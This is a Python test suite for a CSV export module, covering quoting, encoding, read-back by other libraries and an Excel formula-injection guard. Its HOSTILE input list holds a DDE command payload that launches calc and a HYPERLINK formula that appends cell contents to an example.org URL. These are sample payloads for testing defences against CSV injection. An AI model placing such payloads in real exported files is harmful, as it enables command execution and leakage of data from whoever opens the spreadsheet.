"""CSV files: what is written, what hostile texts become, what other programs read."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date
from decimal import Decimal
from typing import TYPE_CHECKING

import pandas as pd
import pytest
from frictionless import Dialect
from frictionless.formats import CsvControl
from frictionless.resources import TableResource

from positions.dossier.dates import parse_edtf
from positions.dossier.store import load_dossier
from positions.render.csv import guard_formula
from positions.render.csv import render_csv
from positions.render.csv import render_package
from positions.render.csv import render_zip
from positions.tables.book import Column
from positions.tables.book import ColumnType
from positions.tables.book import Jump
from positions.tables.book import Ref
from positions.tables.book import Table
from positions.tables.book import Tone
from positions.tables.book import Toned
from positions.tables.book import Web
from positions.tables.data.registers import build_registers
from positions.tables.spelling import spell_cell

if TYPE_CHECKING:
    from pathlib import Path

    from positions.tables.book import Cell

HOSTILE = (
    '=HYPERLINK("https://example.org/?"&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+49 30 1234",
    "-2+3",
    '"quoted", and a comma; and a semicolon',
    "first line\nsecond line\n\nfourth line",
    "tab\tinside",
    "Київ, Москва, «цитата»",
    "שלום, \u202eאבג abc\u202c",
    "مرحبا",
    "👩‍⚖️ 🇺🇳 \U0001d4b3",
    "nbsp\u00a0and line\u2028separator and next\u0085line",
    "NA",
    "null",
    "NO",
    "1e5",
    "007",
    "2030-05-18",
    "'apostrophe",
    "\\backslash\\",
    'ends with quote"',
    "A, B, C",
)


def make_table(*cells: Cell, kind: ColumnType = ColumnType.TEXT) -> Table:
    columns = (
        Column("id", "Id", ColumnType.COUNT, "Number."),
        Column("text", "Text", kind, "A text."),
    )
    return Table("texts", "Texts", "Texts", columns, tuple(enumerate(cells, start=1)), ("id",))


def test_render_csv_is_rfc_4180() -> None:
    content = render_csv(make_table("plain", 'a "b", c', "two\nlines", ""))

    assert content == b'id,text\r\n1,plain\r\n2,"a ""b"", c"\r\n3,"two\nlines"\r\n4,\r\n'


def test_render_csv_without_rows_has_its_header() -> None:
    assert render_csv(make_table()) == b"id,text\r\n"


def test_render_csv_bom() -> None:
    assert render_csv(make_table(), bom=True) == b"\xef\xbb\xbfid,text\r\n"


@pytest.mark.parametrize(
    ("cell", "text"),
    [
        ("text", "text"),
        (1234567, "1234567"),
        (Decimal("-1500000.50"), "-1500000.50"),
        (Decimal("5E+11"), "500000000000"),
        (date(988, 1, 2), "0988-01-02"),
        (parse_edtf("2030-05~/.."), "2030-05~/.."),
        (parse_edtf("unstated"), "unstated"),
        (Ref(("arland", "borvia"), ("Arland", "Borvia")), "arland borvia"),
        (Ref((), ("not stated",)), ""),
        (Jump("2 passages", "evidence", "a", "a"), "2 passages"),
        (Web("Page", "https://example.org", ""), "https://example.org"),
        (Web("Page", "https://example.org", ":~:text=a"), "https://example.org#:~:text=a"),
        (Toned(Decimal("1.10"), Tone.BAD), "1.10"),
    ],
)
def test_spell_cell_for_machines(cell: Cell, text: str) -> None:
    assert spell_cell(cell, for_machines=True) == text


@pytest.mark.parametrize(
    ("text", "guarded"),
    [
        ("=1+1", "'=1+1"),
        ("=5", "'=5"),
        ("+1 hour", "'+1 hour"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\ttab", "'\ttab"),
        ("\rreturn", "'\rreturn"),
        ("\nbreak", "'\nbreak"),
        ("  =1+1", "'  =1+1"),
        ("\u00a0=1+1", "'\u00a0=1+1"),
        ("\uff1d1+1", "'\uff1d1+1"),
        ("\uff0b1", "'\uff0b1"),
        ("\uff0d1+1", "'\uff0d1+1"),
        ("\uff20SUM(A1)", "'\uff20SUM(A1)"),
        ("-5", "-5"),
        ("+5", "+5"),
        ("-5.25", "-5.25"),
        ("-5%", "-5%"),
        ("-", "-"),
        ("", ""),
        ("a=b", "a=b"),
        ("2030-05-18", "2030-05-18"),
        ("'=1+1", "'=1+1"),
    ],
)
def test_guard_formula(text: str, guarded: str) -> None:
    assert guard_formula(text) == guarded


def test_render_csv_excel_safe_leaves_numbers_alone() -> None:
    numbers = make_table(Decimal("-5.5"), -7, kind=ColumnType.NUMBER)

    assert render_csv(numbers, excel_safe=True) == b"id,text\r\n1,-5.5\r\n2,-7\r\n"
    assert render_csv(make_table("=1"), excel_safe=True) == b"id,text\r\n1,'=1\r\n"
    assert render_csv(make_table("=1")) == b"id,text\r\n1,=1\r\n"


def test_render_csv_read_back_by_csv_reader() -> None:
    text = render_csv(make_table(*HOSTILE)).decode("utf-8")

    assert tuple(row[1] for row in csv.reader(io.StringIO(text, newline="")))[1:] == HOSTILE


@pytest.mark.parametrize("bom", [False, True])
def test_render_csv_read_back_by_pandas(*, bom: bool) -> None:
    content = io.BytesIO(render_csv(make_table(*HOSTILE), bom=bom))

    frame = pd.read_csv(content, dtype=str, keep_default_na=False)
    assert list(frame.columns) == ["id", "text"]
    assert tuple(frame["text"]) == HOSTILE


@pytest.mark.parametrize("bom", [False, True])
def test_render_csv_read_back_by_frictionless(tmp_path: Path, *, bom: bool) -> None:
    (tmp_path / "texts.csv").write_bytes(render_csv(make_table(*HOSTILE), bom=bom))

    dialect = Dialect(controls=[CsvControl(delimiter=",", skip_initial_space=False)])
    resource = TableResource(
        path="texts.csv", basepath=str(tmp_path), encoding="utf-8", dialect=dialect
    )
    rows = resource.read_rows()
    assert tuple(str(row["text"]) for row in rows) == HOSTILE


def test_render_package_holds_every_table_and_its_descriptor(canal: Path) -> None:
    dossier = load_dossier(canal).dossier
    assert dossier is not None
    tables = build_registers(dossier)

    files = render_package(dossier, tables)

    assert list(files) == sorted([*(f"{table.name}.csv" for table in tables), "datapackage.json"])
    assert files["responses.csv"] == (b"position,item,responds_to\r\nborvia-toll,1,arland-toll\r\n")
    assert files == render_package(dossier, tables)


def test_render_zip_has_fixed_dates_order_and_rights() -> None:
    content = render_zip({"b.csv": b"b\r\n", "a.csv": b"a\r\n"})

    with zipfile.ZipFile(io.BytesIO(content)) as package:
        assert package.namelist() == ["a.csv", "b.csv"]
        assert package.read("b.csv") == b"b\r\n"
        for entry in package.infolist():
            assert entry.date_time == (1980, 1, 1, 0, 0, 0)
            assert entry.external_attr == 0o100644 << 16
            assert entry.create_system == 3
    assert content == render_zip({"a.csv": b"a\r\n", "b.csv": b"b\r\n"})
